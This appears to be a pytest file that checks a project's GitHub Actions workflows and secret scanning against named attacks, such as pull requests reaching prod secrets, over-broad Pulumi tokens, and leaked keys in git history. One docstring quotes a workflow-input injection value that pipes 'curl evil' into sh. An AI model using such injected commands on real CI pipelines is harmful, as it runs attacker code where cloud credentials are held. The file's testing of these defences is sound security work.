"""Attacks on CI and on the secret scan (issue 9, items 8 and 9): one test per attack, named after it.

The workflows cannot run here; they are read as GitHub reads them (``tests/ci_workflows.py``) and judged by an
outside checker where one exists (zizmor offline). The scan's attacks plant obviously fake values, generated in
the test, in a throwaway git repository and let gitleaks judge with the committed ``.gitleaks.toml``.
"""

from __future__ import annotations

import json
import re
import secrets
import subprocess
from pathlib import Path

import pytest

from tests import ci_workflows as ci

ZIZMOR = ci.ROOT / ".venv" / "bin" / "zizmor"


def test_pull_request_branch_decrypts_prod() -> None:
    """Attack: open a pull request from a branch of this repository; its code (``__main__.py``, the Makefile,
    the workflow itself) runs in a job that holds prod's Pulumi token and deploy-environment variables, so
    ``pulumi preview`` decrypts prod's config and the branch can print every prod secret."""
    exposed = [
        f"{r.workflow}:{r.job} environments={sorted(r.environments)} stacks={sorted(r.stacks)}"
        for r in ci.reaches()
        if r.triggers & ci.UNREVIEWED_TRIGGERS and r.reaches_prod()
    ]
    assert exposed == [], "jobs of a pull request reach prod:\n" + "\n".join(exposed)


def test_dispatch_from_a_feature_branch_reaches_prod() -> None:
    """Attack: push a branch and start a workflow on it by hand (``workflow_dispatch`` runs the chosen branch's
    code) or by any trigger other than a push to main; a prod job then runs unreviewed code with prod's
    credentials. Every job that reaches prod must be started only from main and say so in its ``if:``."""
    loose = []
    for reach in ci.reaches():
        if not reach.reaches_prod():
            continue
        allowed = {"push", "workflow_dispatch", "schedule"}
        only_main = any("github.ref == 'refs/heads/main'" in c for c in reach.conditions)
        if not reach.triggers <= allowed or not only_main:
            loose.append(f"{reach.workflow}:{reach.job} triggers={sorted(reach.triggers)}")
    assert loose == [], "prod jobs not restricted to main:\n" + "\n".join(loose)
    deploy = ci.triggers(ci.workflows()["deploy.yml"])
    assert deploy["push"]["branches"] == ["main"]


def test_one_stack_token_opens_every_stack() -> None:
    """Attack: a job given an organization-wide Pulumi token (``access_token:organization``) for a dev preview
    can also read prod's state and decrypt prod's config. The token a job requests must be a team token whose
    team the environment names (a team with access to that one stack), never an organization token."""
    job = ci.load(ci.WORKFLOW_DIR / "pulumi-stack.yml")["jobs"]["pulumi"]
    auth = [s for s in job["steps"] if str(s.get("uses", "")).startswith("pulumi/auth-actions@")]
    assert auth, "the Pulumi Cloud login step"
    for step in auth:
        with_ = step["with"]
        assert with_["requested-token-type"] == "urn:pulumi:token-type:access_token:team", with_
        assert with_["scope"] == "team:${{ vars.PULUMI_TEAM }}", with_
    every = "\n".join(p.read_text() for p in ci.GITHUB.rglob("*.yml"))
    assert "access_token:organization" not in every


def test_workflow_input_injects_shell() -> None:
    """Attack: a caller passes ``stack: 'x"; curl evil | sh; "'`` (or an environment name with ``$(...)``);
    expanded by ``${{ }}`` inside a ``run:`` script it becomes shell code in a job holding cloud credentials.
    zizmor (offline) judges: it must report nothing but unpinned action tags (pinned by major on purpose,
    kept current by Dependabot)."""
    result = subprocess.run(
        [str(ZIZMOR), "--offline", "--format", "json", "--no-progress", str(ci.GITHUB)],
        capture_output=True,
        text=True,
        cwd=ci.ROOT,
    )
    assert result.returncode in (0, 10, 11, 12, 13, 14), result.stderr
    findings = json.loads(result.stdout)
    other = sorted(
        (f["ident"], loc["symbolic"]["key"]["Local"]["verbatim_path"])
        for f in findings
        for loc in f["locations"][-1:]
        if f["ident"] != "unpinned-uses"
    )
    assert other == [], f"zizmor: {other}"
    assert any(f["ident"] == "unpinned-uses" for f in findings), "zizmor audited nothing"


@pytest.mark.parametrize(
    "path", sorted((ci.GITHUB / "workflows").glob("*.yml")), ids=lambda p: p.name
)
def test_expression_in_run_script(path: Path) -> None:
    """Attack: the same injection through any ``${{ }}`` inside a ``run:`` block, including contexts zizmor
    trusts today (``inputs``, ``matrix``): values reach a script only through ``env:``."""
    data = ci.load(path)
    scripts = [
        str(step.get("run", "")) for job in data["jobs"].values() for step in job.get("steps", [])
    ]
    assert [s for s in scripts if re.search(r"\$\{\{", s)] == []


def test_control_a_pull_request_job_given_prod_is_seen(tmp_path: Path) -> None:
    """Control for the two tests above: the same reading flags a pull-request workflow widened back to a
    prod preview (a matrix over dev and prod), so a passing attack test means the workflows, not the reader."""
    for path in ci.WORKFLOW_DIR.glob("*.yml"):
        (tmp_path / path.name).write_text(path.read_text())
    pr = tmp_path / "pull-request.yml"
    widened = pr.read_text().replace(
        "      stack: dev\n      command: preview\n      environment: preview-dev",
        "      stack: ${{ matrix.stack }}\n      command: preview\n"
        "      environment: preview-${{ matrix.stack }}\n"
        "    strategy:\n      matrix:\n        stack: [dev, prod]",
    )
    assert widened != pr.read_text()
    pr.write_text(widened)
    exposed = {
        (r.job, tuple(sorted(r.environments)))
        for r in ci.reaches(tmp_path)
        if r.triggers & ci.UNREVIEWED_TRIGGERS and r.reaches_prod()
    }
    assert exposed == {("preview", ("preview-prod",))}


def _scan_repo(tmp_path: Path) -> Path:
    """A throwaway repository with this project's .gitignore and gitleaks config and a fresh baseline."""
    from tools import scan_secrets

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("config", "user.email", "ci@example.invalid")
    git("config", "user.name", "ci")
    for name in (".gitignore", ".gitleaks.toml"):
        if (ci.ROOT / name).exists():
            (tmp_path / name).write_text((ci.ROOT / name).read_text())
    (tmp_path / "app.py").write_text('TOKEN_ENV = "JWT_SECRET"\n')
    scan_secrets.update_baseline(tmp_path)
    git("add", "-A")
    git("commit", "-q", "-m", "clean")
    return tmp_path


def test_linear_key_committed_then_removed_goes_unseen(tmp_path: Path) -> None:
    """Attack (or accident): commit a Linear key, delete it in the next commit, push both. The key is in the
    history for good (and must be rotated); `make scan` must find it without being told where to look."""
    from tools import scan_secrets

    repo = _scan_repo(tmp_path)
    key = "lin_" + "api_" + secrets.token_hex(20)
    (repo / "notes.txt").write_text(key + "\n")
    subprocess.run(["git", "add", "notes.txt"], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-q", "-m", "oops"], cwd=repo, check=True)
    (repo / "notes.txt").write_text("\n")
    subprocess.run(["git", "commit", "-q", "-am", "remove it"], cwd=repo, check=True)
    assert scan_secrets.main(["--root", str(repo)]) == 1


def test_redis_password_url_goes_unseen(tmp_path: Path) -> None:
    """Attack (or accident): paste the prod REDIS_URL, the guide's `rediss://:<password>@host`, into a file.
    detect-secrets' basic-auth rule wants a user name before the colon, so it lets this shape through."""
    from tools import scan_secrets

    repo = _scan_repo(tmp_path)
    password = secrets.token_urlsafe(12)
    (repo / "deploy-notes.md").write_text(
        f"REDIS_URL=rediss://:{password}@redis.prod.internal:6379/0\n"
    )
    assert scan_secrets.main(["--root", str(repo)]) == 1


def test_guides_scanner_is_red_on_day_one() -> None:
    """Not an attack but the failure that makes a team switch the scanner off: gitleaks, as the guide asks, run
    on this repository's whole history with the committed config, must report 0 findings (it reported 22 false
    positives: detect-secrets' hashes, Azure role ids)."""
    from tools import scan_secrets

    config = ci.ROOT / ".gitleaks.toml"
    command = [
        scan_secrets.gitleaks_binary()
        if hasattr(scan_secrets, "gitleaks_binary")
        else str(ci.ROOT / ".venv" / "bin" / "gitleaks"),
        "git",
        "--no-banner",
        "--redact",
        "--log-opts=HEAD",
    ]
    if config.exists():
        command += ["--config", str(config)]
    result = subprocess.run([*command, "."], cwd=ci.ROOT, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr.strip().splitlines()[-1:]
